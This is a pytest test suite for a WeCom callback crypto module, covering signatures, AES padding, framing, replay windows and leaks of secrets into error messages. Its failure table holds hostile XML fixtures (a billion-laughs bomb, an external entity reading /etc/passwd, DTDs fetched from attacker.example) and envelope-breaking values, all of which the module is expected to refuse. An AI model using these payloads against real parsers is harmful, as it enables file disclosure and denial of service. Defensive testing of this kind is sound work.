"""WeCom callback crypto (Doc 90968): published vectors, round trips, and every failure mode.

Plain pytest: nothing here needs Django. The oracles are the published vectors and an independent
AES/SHA1 construction written out below from API.md §1, not the module's own helpers.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, unquote_plus

import pytest
from Crypto.Cipher import AES
from defusedxml.ElementTree import fromstring
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from wecom.crypto import (
    Base64Error,
    BodyTooLargeError,
    CallbackCrypto,
    CallbackError,
    DecryptError,
    InvalidKeyError,
    LengthError,
    PaddingError,
    ReceiveIdError,
    SignatureError,
    TimestampError,
    XmlError,
)

REPO_ROOT = Path(__file__).resolve().parents[2]
VECTORS_PATH = REPO_ROOT.parent / "shared" / "wecom" / "vectors.json"
VECTORS = json.loads(VECTORS_PATH.read_text(encoding="utf-8"))["vectors"]

# Distinctive values so a leak into an error message is easy to spot.
TOKEN = "SeCrEtToKeN42"
AES_KEY = "Zq8Xv3Nw7Lm2Kp5Rt9Yb4Hc6Jd1Fg0Es8Ua3Wi7Oo2P"
CORP_ID = "ww4f2a9c1d7e3b8605"
NOW = 1_716_776_532
MiB = 1024 * 1024


def make(**kwargs: Any) -> CallbackCrypto:
    return CallbackCrypto(TOKEN, AES_KEY, CORP_ID, **kwargs)


def sha1_signature(token: str, timestamp: str, nonce: str, encrypted: str) -> str:
    # SHA1 is what the protocol mandates.
    return hashlib.sha1("".join(sorted([token, timestamp, nonce, encrypted])).encode()).hexdigest()  # noqa: S324


def seal(buf: bytes, key: str = AES_KEY) -> str:
    """AES-256-CBC with IV = key[:16] over an exact buffer (no padding added): for crafted plaintexts."""
    raw_key = base64.b64decode(key + "=")
    return base64.b64encode(AES.new(raw_key, AES.MODE_CBC, iv=raw_key[:16]).encrypt(buf)).decode()


def open_raw(encrypted: str, key: str = AES_KEY) -> bytes:
    raw_key = base64.b64decode(key + "=")
    return AES.new(raw_key, AES.MODE_CBC, iv=raw_key[:16]).decrypt(base64.b64decode(encrypted))


def pkcs7_32(buf: bytes) -> bytes:
    pad = 32 - len(buf) % 32
    return buf + bytes([pad]) * pad


def frame(msg: bytes, receive_id: bytes = CORP_ID.encode(), declared_len: int | None = None) -> bytes:
    length = len(msg) if declared_len is None else declared_len
    return os.urandom(16) + length.to_bytes(4, "big") + msg + receive_id


def envelope(encrypted: str, *, head: str = "", to_user: str = CORP_ID) -> bytes:
    return (
        f"{head}<xml><ToUserName><![CDATA[{to_user}]]></ToUserName>"
        f"<Encrypt><![CDATA[{encrypted}]]></Encrypt><AgentID><![CDATA[1000002]]></AgentID></xml>"
    ).encode()


def post(
    crypto: CallbackCrypto, encrypted: str, *, timestamp: str = str(NOW), nonce: str = "1372623149"
) -> str:
    """Decrypt a POST whose Encrypt value is ``encrypted``, correctly signed with TOKEN."""
    sig = sha1_signature(TOKEN, timestamp, nonce, encrypted)
    return crypto.decrypt(sig, timestamp, nonce, envelope(encrypted))


# -- published vectors ------------------------------------------------------------------------------


@pytest.mark.parametrize("vector", VECTORS, ids=[v["name"] for v in VECTORS])
def test_url_verification_vector(vector: dict) -> None:
    crypto = CallbackCrypto(vector["token"], vector["encoding_aes_key"], vector["corp_id"])
    v = vector["url_verify"]
    assert crypto.verify_url(v["msg_signature"], v["timestamp"], v["nonce"], v["echostr"]) == v["plaintext"]


@pytest.mark.parametrize("vector", VECTORS, ids=[v["name"] for v in VECTORS])
@pytest.mark.parametrize("as_bytes", [True, False], ids=["bytes", "str"])
def test_message_vector(vector: dict, as_bytes: bool) -> None:
    crypto = CallbackCrypto(vector["token"], vector["encoding_aes_key"], vector["corp_id"])
    m = vector["message"]
    body = m["body"].encode() if as_bytes else m["body"]
    assert crypto.decrypt(m["msg_signature"], m["timestamp"], m["nonce"], body) == m["plaintext"]


def test_url_encoded_echostr_is_decoded_exactly_once() -> None:
    vector = VECTORS[0]
    v = vector["url_verify"]
    crypto = CallbackCrypto(vector["token"], vector["encoding_aes_key"], vector["corp_id"])
    # What a framework hands the view: the query string decoded once ('%2B' -> '+').
    decoded = parse_qs("echostr=" + v["echostr_url_encoded"])["echostr"][0]
    assert decoded == v["echostr"]
    assert "+" in decoded
    assert crypto.verify_url(v["msg_signature"], v["timestamp"], v["nonce"], decoded) == v["plaintext"]
    # Decoding a second time turns '+' into ' ': the signature no longer matches.
    with pytest.raises(SignatureError):
        crypto.verify_url(v["msg_signature"], v["timestamp"], v["nonce"], unquote_plus(decoded))


def test_vector_signature_matches_independent_sha1() -> None:
    for vector in VECTORS:
        crypto = CallbackCrypto(vector["token"], vector["encoding_aes_key"], vector["corp_id"])
        v = vector["url_verify"]
        assert crypto.signature(v["timestamp"], v["nonce"], v["echostr"]) == v["msg_signature"]


# -- round trips ------------------------------------------------------------------------------------


def _fill(seed: str, n_bytes: int) -> str:
    """``seed`` repeated to at most ``n_bytes`` of UTF-8 (whole characters only)."""
    text = seed * (n_bytes // max(1, len(seed.encode())) + 1)
    while len(text.encode()) > n_bytes:
        text = text[: len(text) - max(1, (len(text.encode()) - n_bytes) // 4)]
    return text


utf8_texts = st.one_of(
    st.text(max_size=200),
    st.text(alphabet=st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF), max_size=200),
    st.builds(_fill, st.text(min_size=1, max_size=12), st.integers(min_value=0, max_value=64 * 1024)),
)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=utf8_texts)
@example(text="")
@example(text="你好，欢迎添加企业微信！🎉")
@example(text="a" * (64 * 1024))
@example(text=_fill("客户", 64 * 1024))
def test_round_trip_any_utf8_text(text: str) -> None:
    assert len(text.encode()) <= 64 * 1024
    crypto = make()
    encrypted = crypto.encrypt_message(text)
    assert post(crypto, encrypted) == text
    assert crypto.verify_url(crypto.signature("1", "2", encrypted), "1", "2", encrypted) == text


@settings(max_examples=40, deadline=None)
@given(text=utf8_texts, nonce=st.from_regex(r"[0-9A-Za-z]{1,16}", fullmatch=True))
def test_round_trip_through_reply_envelope(text: str, nonce: str) -> None:
    crypto = make()
    reply = crypto.encrypt(text, nonce, str(NOW))
    root = fromstring(reply)
    assert [child.tag for child in root] == ["Encrypt", "MsgSignature", "TimeStamp", "Nonce"]
    encrypted = root.findtext("Encrypt")
    assert root.findtext("TimeStamp") == str(NOW)
    assert root.findtext("Nonce") == nonce
    assert root.findtext("MsgSignature") == sha1_signature(TOKEN, str(NOW), nonce, encrypted)
    assert crypto.decrypt(root.findtext("MsgSignature"), str(NOW), nonce, reply) == text


@settings(max_examples=40, deadline=None)
@given(text=utf8_texts)
def test_round_trip_through_build_callback(text: str) -> None:
    crypto = make(clock=lambda: NOW)
    query, body = crypto.build_callback(text, agent_id=1000002)
    assert set(query) == {"msg_signature", "timestamp", "nonce"}
    assert query["timestamp"] == str(NOW)
    root = fromstring(body)
    assert root.findtext("ToUserName") == CORP_ID
    assert root.findtext("AgentID") == "1000002"
    assert query["msg_signature"] == sha1_signature(
        TOKEN, query["timestamp"], query["nonce"], root.findtext("Encrypt")
    )
    assert crypto.decrypt(body=body, **query) == text


def test_build_url_verification_round_trip() -> None:
    crypto = make()
    query = crypto.build_url_verification("8461523015629482", timestamp="1716776532", nonce="55")
    assert query["msg_signature"] == sha1_signature(TOKEN, "1716776532", "55", query["echostr"])
    assert crypto.verify_url(**query) == "8461523015629482"


@pytest.mark.parametrize("msg_len", range(70))
def test_ciphertext_layout_and_padding_to_32(msg_len: int) -> None:
    msg = ("x" * msg_len).encode()
    plain = open_raw(make().encrypt_message(msg.decode()))
    pad = plain[-1]
    assert len(plain) % 32 == 0
    assert 1 <= pad <= 32
    assert plain[-pad:] == bytes([pad]) * pad
    assert (16 + 4 + msg_len + len(CORP_ID) + pad) == len(plain)
    assert int.from_bytes(plain[16:20], "big") == msg_len
    assert plain[20 : 20 + msg_len] == msg
    assert plain[20 + msg_len : -pad] == CORP_ID.encode()


def test_random_prefix_makes_each_ciphertext_different() -> None:
    crypto = make()
    first, second = crypto.encrypt_message("同一条消息"), crypto.encrypt_message("同一条消息")
    assert first != second
    assert open_raw(first)[:16] != open_raw(second)[:16]


def test_decrypt_accepts_independently_built_callback() -> None:
    # Built with the test's own AES/SHA1, not the module's: proves interoperability, not self-consistency.
    assert post(make(), GOOD_CIPHERTEXT) == "hello"
    encrypted = seal(pkcs7_32(frame("<xml><Content><![CDATA[测试]]></Content></xml>".encode())))
    assert post(make(), encrypted) == "<xml><Content><![CDATA[测试]]></Content></xml>"


# -- failures: each error class, its official code and reason ---------------------------------------


def _signed_post_with_encrypted(encrypted: str) -> Callable[[CallbackCrypto], object]:
    return lambda crypto: post(crypto, encrypted)


def _post_signed_by(token: str) -> Callable[[CallbackCrypto], object]:
    def run(crypto: CallbackCrypto) -> object:
        encrypted = crypto.encrypt_message("hello")
        sig = sha1_signature(token, str(NOW), "1", encrypted)
        return crypto.decrypt(sig, str(NOW), "1", envelope(encrypted))

    return run


def _tampered_encrypt(crypto: CallbackCrypto) -> object:
    encrypted = crypto.encrypt_message("hello")
    sig = sha1_signature(TOKEN, str(NOW), "1", encrypted)
    forged = crypto.encrypt_message("transfer everything")
    return crypto.decrypt(sig, str(NOW), "1", envelope(forged))


def _non_ascii_signature(crypto: CallbackCrypto) -> object:
    encrypted = crypto.encrypt_message("hello")
    return crypto.decrypt("签名" * 20, str(NOW), "1", envelope(encrypted))


def _forged_url_verification(crypto: CallbackCrypto) -> object:
    query = crypto.build_url_verification("123", timestamp=str(NOW), nonce="9")
    return crypto.verify_url(query["msg_signature"], str(NOW), "10", query["echostr"])


def _other_corp_echostr(crypto: CallbackCrypto) -> object:
    other = CallbackCrypto(TOKEN, AES_KEY, "wwffffffffffffffff")
    return crypto.verify_url(**other.build_url_verification("123", timestamp=str(NOW), nonce="9"))


def _other_corp_post(crypto: CallbackCrypto) -> object:
    other = CallbackCrypto(TOKEN, AES_KEY, "wwffffffffffffffff")
    query, body = other.build_callback("<xml/>", agent_id=1, timestamp=str(NOW), nonce="9")
    return crypto.decrypt(body=body, **query)


def _post_at(timestamp: str) -> Callable[[CallbackCrypto], object]:
    def run(crypto: CallbackCrypto) -> object:
        encrypted = crypto.encrypt_message("hello")
        return crypto.decrypt(
            sha1_signature(TOKEN, timestamp, "1", encrypted), timestamp, "1", envelope(encrypted)
        )

    return run


def _verify_url_at(timestamp: str) -> Callable[[CallbackCrypto], object]:
    def run(crypto: CallbackCrypto) -> object:
        echostr = crypto.encrypt_message("123")
        return crypto.verify_url(sha1_signature(TOKEN, timestamp, "1", echostr), timestamp, "1", echostr)

    return run


def _post_body(body: bytes | str) -> Callable[[CallbackCrypto], object]:
    return lambda crypto: crypto.decrypt("0" * 40, str(NOW), "1", body)


def _signed_envelope_with_head(head: str, to_user: str = CORP_ID) -> Callable[[CallbackCrypto], object]:
    # Everything valid (signature included) except the DTD: the XML must be refused for the DTD alone.
    def run(crypto: CallbackCrypto) -> object:
        encrypted = crypto.encrypt_message("hello")
        sig = sha1_signature(TOKEN, str(NOW), "1", encrypted)
        return crypto.decrypt(sig, str(NOW), "1", envelope(encrypted, head=head, to_user=to_user))

    return run


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>"
)

GOOD_CIPHERTEXT = seal(pkcs7_32(frame(b"hello")))

# (id, scenario, crypto options, expected class, official code, reason)
FAILURES: list[tuple[str, Callable[[CallbackCrypto], object], dict, type[CallbackError], int | None, str]] = [
    ("forged-signature", _post_signed_by("WrongToken"), {}, SignatureError, -40001, "signature_mismatch"),
    ("tampered-encrypt", _tampered_encrypt, {}, SignatureError, -40001, "signature_mismatch"),
    ("non-ascii-signature", _non_ascii_signature, {}, SignatureError, -40001, "signature_mismatch"),
    ("forged-url-verification", _forged_url_verification, {}, SignatureError, -40001, "signature_mismatch"),
    ("base64-bad-chars", _signed_post_with_encrypted("not*base64!"), {}, Base64Error, -40010, "bad_base64"),
    ("base64-bad-length", _signed_post_with_encrypted("QUJD" + "QQ"), {}, Base64Error, -40010, "bad_base64"),
    ("base64-non-ascii", _signed_post_with_encrypted("密文密文"), {}, Base64Error, -40010, "bad_base64"),
    (
        # A lenient decoder would skip the '*' and decrypt this; strict decoding refuses it.
        "base64-with-junk-character",
        _signed_post_with_encrypted(GOOD_CIPHERTEXT[:4] + "*" + GOOD_CIPHERTEXT[4:]),
        {},
        Base64Error,
        -40010,
        "bad_base64",
    ),
    (
        "ciphertext-not-block-aligned",
        _signed_post_with_encrypted(base64.b64encode(b"x" * 24).decode()),
        {},
        DecryptError,
        -40007,
        "ciphertext_not_block_aligned",
    ),
    (
        "padding-0",
        _signed_post_with_encrypted(seal(frame(b"hi") + bytes(32 - (len(frame(b"hi")) % 32)))),
        {},
        PaddingError,
        -40007,
        "bad_padding",
    ),
    (
        "padding-33",
        _signed_post_with_encrypted(seal(frame(b"x" * 10, b"") + bytes([33]) * 34)),
        {},
        PaddingError,
        -40007,
        "bad_padding",
    ),
    (
        "padding-255",
        _signed_post_with_encrypted(seal(frame(b"x" * 12) + bytes([255]) * 30)),
        {},
        PaddingError,
        -40007,
        "bad_padding",
    ),
    (
        "padding-inconsistent-bytes",
        _signed_post_with_encrypted(seal(frame(b"x" * 6) + bytes([1] + [4] * 3))),
        {},
        PaddingError,
        -40007,
        "bad_padding",
    ),
    (
        "length-field-too-large",
        _signed_post_with_encrypted(seal(pkcs7_32(frame(b"hello", declared_len=4096)))),
        {},
        LengthError,
        -40008,
        "length_mismatch",
    ),
    (
        "length-field-2**32-1",
        _signed_post_with_encrypted(seal(pkcs7_32(frame(b"hello", declared_len=2**32 - 1)))),
        {},
        LengthError,
        -40008,
        "length_mismatch",
    ),
    (
        "buffer-shorter-than-header",
        _signed_post_with_encrypted(seal(os.urandom(18) + bytes([14]) * 14)),
        {},
        LengthError,
        -40008,
        "buffer_too_short",
    ),
    (
        "receiveid-wrong",
        _signed_post_with_encrypted(seal(pkcs7_32(frame(b"hello", b"wwffffffffffffffff")))),
        {},
        ReceiveIdError,
        -40005,
        "receive_id_mismatch",
    ),
    (
        "receiveid-missing",
        _signed_post_with_encrypted(seal(pkcs7_32(frame(b"hello", b"")))),
        {},
        ReceiveIdError,
        -40005,
        "receive_id_mismatch",
    ),
    ("receiveid-other-corp-post", _other_corp_post, {}, ReceiveIdError, -40005, "receive_id_mismatch"),
    ("receiveid-other-corp-echostr", _other_corp_echostr, {}, ReceiveIdError, -40005, "receive_id_mismatch"),
    (
        "message-not-utf8",
        _signed_post_with_encrypted(seal(pkcs7_32(frame(b"\xff\xfe<xml/>")))),
        {},
        DecryptError,
        -40007,
        "message_not_utf8",
    ),
    (
        "timestamp-too-old",
        _post_at(str(NOW - 301)),
        {"replay_window": 300, "clock": lambda: NOW},
        TimestampError,
        None,
        "timestamp_out_of_window",
    ),
    (
        "timestamp-in-future",
        _post_at(str(NOW + 301)),
        {"replay_window": 300, "clock": lambda: NOW},
        TimestampError,
        None,
        "timestamp_out_of_window",
    ),
    (
        "url-verification-too-old",
        _verify_url_at(str(NOW - 3600)),
        {"replay_window": 300, "clock": lambda: NOW},
        TimestampError,
        None,
        "timestamp_out_of_window",
    ),
    *[
        (f"timestamp-not-integer-{ts!r}", _post_at(ts), {}, TimestampError, None, "timestamp_not_integer")
        for ts in ["abc", "", "1716776532.5", "-1716776532", " 1716776532", "1e9", "１７１６"]
    ],
    (
        "url-verification-timestamp-not-integer",
        _verify_url_at("x1"),
        {},
        TimestampError,
        None,
        "timestamp_not_integer",
    ),
    (
        "body-too-large",
        _post_body(b"<xml>" + b"A" * 2048 + b"</xml>"),
        {"max_body_bytes": 1024},
        BodyTooLargeError,
        None,
        "body_too_large",
    ),
    (
        # Refused on size before any parsing: this body is not even XML.
        "body-too-large-checked-before-parsing",
        _post_body(b"<!DOCTYPE " + b"\x00" * 4096),
        {"max_body_bytes": 1024},
        BodyTooLargeError,
        None,
        "body_too_large",
    ),
    (
        "body-too-large-counted-in-utf8-bytes",
        _post_body("<xml>" + "企" * 400 + "</xml>"),
        {"max_body_bytes": 1024},
        BodyTooLargeError,
        None,
        "body_too_large",
    ),
    (
        "echostr-too-large",
        lambda crypto: crypto.verify_url("0" * 40, str(NOW), "1", "A" * 2048),
        {"max_body_bytes": 1024},
        BodyTooLargeError,
        None,
        "body_too_large",
    ),
    ("envelope-not-xml", _post_body(b"hello"), {}, XmlError, -40002, "syntax"),
    (
        "envelope-truncated",
        _post_body(b"<xml><Encrypt><![CDATA[abc]]></Encrypt>"),
        {},
        XmlError,
        -40002,
        "syntax",
    ),
    (
        "envelope-undefined-entity",
        _post_body(b"<xml><ToUserName>&xxe;</ToUserName><Encrypt>abc</Encrypt></xml>"),
        {},
        XmlError,
        -40002,
        "syntax",
    ),
    (
        "envelope-no-encrypt",
        _post_body(b"<xml><ToUserName>x</ToUserName></xml>"),
        {},
        XmlError,
        -40002,
        "encrypt_missing",
    ),
    (
        "envelope-empty-encrypt",
        _post_body(b"<xml><Encrypt></Encrypt></xml>"),
        {},
        XmlError,
        -40002,
        "encrypt_missing",
    ),
    (
        "envelope-nested-encrypt-only",
        _post_body(b"<xml><Wrapper><Encrypt>abc</Encrypt></Wrapper></xml>"),
        {},
        XmlError,
        -40002,
        "encrypt_missing",
    ),
    ("envelope-dtd", _signed_envelope_with_head("<!DOCTYPE xml>"), {}, XmlError, -40002, "dtd"),
    (
        "envelope-internal-entity",
        _signed_envelope_with_head('<!DOCTYPE xml [<!ENTITY corp "ww4f2a9c1d7e3b8605">]>', to_user="&corp;"),
        {},
        XmlError,
        -40002,
        "dtd",
    ),
    (
        "envelope-billion-laughs",
        _signed_envelope_with_head(BILLION_LAUGHS, to_user="&lol9;"),
        {},
        XmlError,
        -40002,
        "dtd",
    ),
    (
        "envelope-external-entity",
        _signed_envelope_with_head(
            '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', to_user="&xxe;"
        ),
        {},
        XmlError,
        -40002,
        "dtd",
    ),
    (
        "envelope-external-dtd",
        _signed_envelope_with_head('<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">'),
        {},
        XmlError,
        -40002,
        "dtd",
    ),
    (
        "envelope-parameter-entity",
        _signed_envelope_with_head(
            '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'
        ),
        {},
        XmlError,
        -40002,
        "dtd",
    ),
]


@pytest.mark.parametrize(
    ("scenario", "options", "error", "code", "reason"),
    [f[1:] for f in FAILURES],
    ids=[f[0] for f in FAILURES],
)
def test_failure_raises_its_error(
    scenario: Callable[[CallbackCrypto], object],
    options: dict,
    error: type[CallbackError],
    code: int | None,
    reason: str,
) -> None:
    with pytest.raises(error) as info:
        scenario(make(**options))
    exc = info.value
    assert type(exc) is error
    assert isinstance(exc, CallbackError)
    assert exc.code == code
    assert exc.reason == reason
    # Names what failed, never the secrets.
    text = str(exc) + repr(exc)
    assert str(exc).strip()
    assert TOKEN not in text
    assert AES_KEY not in text
    assert base64.b64decode(AES_KEY + "=").hex() not in text


def test_every_error_class_is_exercised() -> None:
    exercised = {f[3] for f in FAILURES}
    assert exercised == {
        SignatureError,
        Base64Error,
        DecryptError,
        PaddingError,
        LengthError,
        ReceiveIdError,
        TimestampError,
        BodyTooLargeError,
        XmlError,
    }


def test_error_tree() -> None:
    assert issubclass(PaddingError, DecryptError)
    assert issubclass(InvalidKeyError, ValueError)
    for cls in (SignatureError, Base64Error, DecryptError, LengthError, ReceiveIdError):
        assert issubclass(cls, CallbackError)
        assert not issubclass(cls, ValueError)
    assert (XmlError.code, InvalidKeyError.code) == (-40002, -40004)


def test_wrong_key_is_refused() -> None:
    other_key = "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0U1v"
    other = CallbackCrypto(TOKEN, other_key, CORP_ID)
    # The sender signs correctly but encrypts with another key: decryption must fail, never return junk.
    for _ in range(20):
        with pytest.raises((PaddingError, LengthError, ReceiveIdError, DecryptError)):
            post(make(), other.encrypt_message("<xml>hello</xml>"))


def test_replay_window_accepts_its_edges_and_is_off_by_default() -> None:
    clock = lambda: NOW  # noqa: E731
    windowed = make(replay_window=300, clock=clock)
    for ts in (NOW - 300, NOW, NOW + 300):
        assert _post_at(str(ts))(windowed) == "hello"
    # Off by default: the published vectors are from 2014.
    assert _post_at("1409659813")(make(clock=clock)) == "hello"


def test_body_at_the_limit_is_accepted() -> None:
    crypto = make()
    query, body = crypto.build_callback("<xml>欢迎</xml>", agent_id=1, timestamp=str(NOW), nonce="7")
    assert make(max_body_bytes=len(body)).decrypt(body=body, **query) == "<xml>欢迎</xml>"
    with pytest.raises(BodyTooLargeError):
        make(max_body_bytes=len(body) - 1).decrypt(body=body, **query)


# -- configuration ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("token", "key", "corp_id", "reason"),
    [
        (TOKEN, AES_KEY[:-1], CORP_ID, "bad_aes_key"),
        (TOKEN, AES_KEY + "x", CORP_ID, "bad_aes_key"),
        (TOKEN, AES_KEY[:-1] + "+", CORP_ID, "bad_aes_key"),
        (TOKEN, AES_KEY[:-1] + "/", CORP_ID, "bad_aes_key"),
        (TOKEN, AES_KEY[:-1] + "=", CORP_ID, "bad_aes_key"),
        (TOKEN, AES_KEY[:-1] + "é", CORP_ID, "bad_aes_key"),
        (TOKEN, AES_KEY + "\n", CORP_ID, "bad_aes_key"),
        (TOKEN, "", CORP_ID, "bad_aes_key"),
        ("", AES_KEY, CORP_ID, "bad_token"),
        ("T" * 33, AES_KEY, CORP_ID, "bad_token"),
        ("my-token", AES_KEY, CORP_ID, "bad_token"),
        ("令牌Token", AES_KEY, CORP_ID, "bad_token"),
        (TOKEN + " ", AES_KEY, CORP_ID, "bad_token"),
        (TOKEN, AES_KEY, "", "bad_corp_id"),
        (TOKEN, AES_KEY, "ww 1", "bad_corp_id"),
        (TOKEN, AES_KEY, "w" * 65, "bad_corp_id"),
    ],
)
def test_bad_configuration_is_refused(token: str, key: str, corp_id: str, reason: str) -> None:
    with pytest.raises(InvalidKeyError) as info:
        CallbackCrypto(token, key, corp_id)
    assert isinstance(info.value, ValueError)
    assert info.value.code == -40004
    assert info.value.reason == reason
    text = str(info.value) + repr(info.value)
    assert not (token and token in text)
    assert not (key and key in text)


def test_accepts_configuration_at_its_limits() -> None:
    crypto = CallbackCrypto("T" * 32, "0" * 43, "w")
    assert crypto.verify_url(**crypto.build_url_verification("42")) == "42"


@pytest.mark.parametrize("options", [{"replay_window": -1}, {"max_body_bytes": 0}])
def test_bad_limits_are_refused(options: dict) -> None:
    with pytest.raises(ValueError):
        make(**options)


def test_repr_hides_secrets() -> None:
    text = repr(make())
    assert CORP_ID in text
    assert TOKEN not in text
    assert AES_KEY not in text


@pytest.mark.parametrize(
    ("nonce", "timestamp"),
    [("abc]]>", str(NOW)), ("", str(NOW)), ("1", "now"), ("1", "-5")],
)
def test_encrypt_refuses_values_that_would_break_the_envelope(nonce: str, timestamp: str) -> None:
    crypto = make()
    with pytest.raises(ValueError):
        crypto.encrypt("hi", nonce, timestamp)
    with pytest.raises(ValueError):
        crypto.build_callback("hi", agent_id=1, timestamp=timestamp, nonce=nonce)


def test_build_callback_refuses_bad_agent_id() -> None:
    with pytest.raises(ValueError):
        make().build_callback("hi", agent_id="1]]><x>")
